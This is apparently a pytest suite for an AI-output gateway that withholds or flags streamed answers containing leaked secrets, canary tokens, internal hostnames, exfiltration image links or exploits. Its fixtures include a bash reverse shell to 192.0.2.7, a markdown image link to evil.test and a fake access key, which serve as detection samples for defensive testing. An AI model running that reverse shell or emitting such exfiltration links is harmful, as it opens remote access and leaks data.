"""What becomes of findings in an answer: in each release mode, by each choice of the path, and in the outcome."""

import json
from dataclasses import replace

import pytest

from safeconduct.access.detection import FoundAct, FoundKind, OutputRules
from safeconduct.access.program import parse_program
from safeconduct.access.readership import APART, rule_of
from safeconduct.access.records import require_agreement
from safeconduct.boundary.canaries import canary_of
from safeconduct.gateway.entries import outcome_draft
from safeconduct.gateway.errors import WithheldError
from safeconduct.gateway.moves import End, Outcome, Release
from safeconduct.gateway.output import Noting, OutputInspector
from safeconduct.gateway.release import check_whole, releaser
from safeconduct.kernel.entries import Retention
from safeconduct.kernel.errors import InvalidInputError
from support.programs import demo_program, in_force

CANARY = canary_of(b"secret", "soc-triage")
SAID = {
    FoundKind.LINK: "![](https://evil.test/p.png?x=1)",
    FoundKind.SECRET: "The key is AKIAQ3EGRIMZ4D2NV7XA.",
    FoundKind.CANARY: f"It says {CANARY}.",
    FoundKind.PSEUDONYM: "The host is srv-payroll-7.",
    FoundKind.EXPLOIT: "bash -i >& /dev/tcp/192.0.2.7/443 0>&1",
}


def inspector(act=FoundAct.WITHHOLD):
    rules = OutputRules(hosts=("docs.example",), **{kind.value: act for kind in FoundKind})
    return Noting(OutputInspector("soc-triage", rules, canary=CANARY, originals=("SRV-PAYROLL-7",)))


def frames(text):
    chunks = [text[at : at + 7] for at in range(0, len(text), 7)]
    return [b"data: " + json.dumps({"choices": [{"delta": {"content": one}}]}).encode() + b"\n\n" for one in chunks]


def streamed(mode, looking, text):
    out = releaser(mode, looking)
    return b"".join([*map(out.take, frames(text)), out.rest()])


@pytest.mark.parametrize("kind", FoundKind)
@pytest.mark.parametrize("mode", [Release.HOLD_WINDOW, Release.HOLD_ALL])
def test_a_finding_withholds_the_answer_or_is_counted(mode, kind):
    with pytest.raises(WithheldError) as refused:
        streamed(mode, inspector(), SAID[kind])
    assert refused.value.clause == f"path:soc-triage/output/{kind}"
    looking = inspector(FoundAct.MARK)
    assert streamed(mode, looking, SAID[kind]) == b"".join(frames(SAID[kind]))
    assert looking.counts == {kind.value: 1}


@pytest.mark.parametrize("kind", FoundKind)
def test_a_whole_answer_is_looked_through_too(kind):
    body = json.dumps({"choices": [{"message": {"content": SAID[kind]}}]}).encode()
    with pytest.raises(WithheldError):
        check_whole(Release.HOLD_ALL, inspector(), body)


@pytest.mark.parametrize("mode", Release)
def test_an_ordinary_answer_goes_as_it_came(mode):
    text = "The alert is a true positive: see https://docs.example/a and the hash " + "0a" * 32
    looking = inspector()
    assert streamed(mode, looking, text) == b"".join(frames(text))
    assert looking.counts == {}


def test_a_host_that_comes_in_pieces_is_not_taken_for_another():
    assert streamed(Release.HOLD_WINDOW, inspector(), "https://docs.example/" + "a " * 600)
    with pytest.raises(WithheldError):
        streamed(Release.HOLD_WINDOW, inspector(), "https://docs.exam")


def outcome(**found):
    return Outcome(
        end=End.WITHHELD,
        why="released-withheld",
        clause="path:p/output/exploit",
        attempt=1,
        status=200,
        release=Release.HOLD_ALL,
        released=b"",
        released_sha256="",
        kept=b"bash -i",
        finish_reason=None,
        prompt_tokens=1,
        completion_tokens=1,
        unaccounted=0,
        found=found,
    )


def test_an_answer_with_an_exploit_is_sealed_apart_with_days_of_its_own():
    draft = outcome_draft("01ARZ3NDEKTSV4RRFFQ69G5FAV", "ana", "w-1", outcome(exploit=1))
    assert (draft.body["found"], draft.retention) == ({"exploit": 1}, Retention.EXPLOIT)
    assert draft.sealed == {f"{APART}kept": "bash -i"}
    other = outcome_draft("01ARZ3NDEKTSV4RRFFQ69G5FAV", "ana", "w-1", outcome(link=1))
    assert (other.sealed, other.retention) == ({"kept": "bash -i"}, Retention.CALL)


def test_no_row_for_all_fields_speaks_of_what_is_sealed_apart():
    agreement = require_agreement(in_force().state)
    assert list(agreement.fields) == ["gateway.call.intent/*", "gateway.call.outcome/*"]
    assert rule_of(agreement, "gateway.call.outcome/1", "kept") is not None
    assert rule_of(agreement, "gateway.call.outcome/1", f"{APART}kept") is None


def test_exploits_are_kept_no_longer_than_calls():
    agreement = require_agreement(in_force().state)
    assert replace(agreement, retention={Retention.CALL: 30}).days == {Retention.CALL: 30, Retention.EXPLOIT: 30}
    own = {Retention.CALL: 30, Retention.EXPLOIT: 7}
    assert replace(agreement, retention=own).days == own


@pytest.mark.parametrize("kind", FoundKind)
@pytest.mark.parametrize("whole", [True, False])
def test_a_finding_that_is_held_passes_and_is_noted_as_such(kind, whole):
    looking = inspector(FoundAct.HOLD)
    if whole:
        check_whole(Release.HOLD_ALL, looking, json.dumps({"choices": [{"text": SAID[kind]}]}).encode())
    else:
        assert streamed(Release.HOLD_ALL, looking, SAID[kind]) == b"".join(frames(SAID[kind]))
    assert (looking.hold, looking.counts) == (f"path:soc-triage/output/{kind}", {kind.value: 1})
    assert inspector(FoundAct.MARK).hold == ""


def test_what_is_withheld_goes_before_what_is_held():
    rules = OutputRules(link=FoundAct.HOLD, secret=FoundAct.WITHHOLD)
    verdict = OutputInspector("p", rules).inspect(SAID[FoundKind.LINK] + SAID[FoundKind.SECRET], ends=True)
    assert (verdict.clause, verdict.hold) == ("path:p/output/secret", "path:p/output/link")


def with_output(output, release="hold-all"):
    source = demo_program().replace(b"release: pass", b"release: " + release.encode())
    return source.replace(b"    upstream: local\n", b"    upstream: local\n    output: " + output + b"\n", 1)


def test_a_program_s_rules_are_its_path_s():
    source = with_output(b"{hosts: [docs.example], link: hold, exploit: mark}")
    (path,) = [one for one in parse_program(source).paths if one.id == "soc-triage"]
    assert path.output == OutputRules(hosts=("docs.example",), link=FoundAct.HOLD, exploit=FoundAct.MARK)
    assert path.output.holds
    assert not OutputRules().holds


@pytest.mark.parametrize(("release", "taken"), [("hold-all", True), ("hold-window", False)])
def test_an_answer_is_held_for_a_person_only_where_nothing_of_it_goes_before(release, taken):
    source = with_output(b"{exploit: hold}", release)
    if taken:
        assert parse_program(source)
    else:
        with pytest.raises(
            InvalidInputError, match="what went out can't be held for a person: expected release hold-all"
        ):
            parse_program(source)
    assert parse_program(with_output(b"{exploit: withhold}", release))


def test_a_path_that_holds_nothing_cannot_look_through_answers():
    with_output = demo_program().replace(b"    upstream: local\n", b"    upstream: local\n    output: {}\n", 1)
    with pytest.raises(InvalidInputError, match="expected release hold-window or hold-all"):
        in_force(with_output)
